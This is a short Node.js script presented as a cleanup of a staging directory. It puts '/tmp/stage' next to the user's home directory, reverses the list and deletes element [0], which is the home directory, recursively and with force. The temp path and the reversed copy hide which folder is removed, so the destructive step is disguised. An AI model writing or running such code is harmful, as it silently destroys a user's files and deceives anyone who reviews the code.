// Clears the directory listed last, read from a reversed copy.
const fs = require('fs');
const os = require('os');

const list = ['/tmp/stage', os.homedir()];
fs.rmSync(list.toReversed()[0], { recursive: true, force: true });
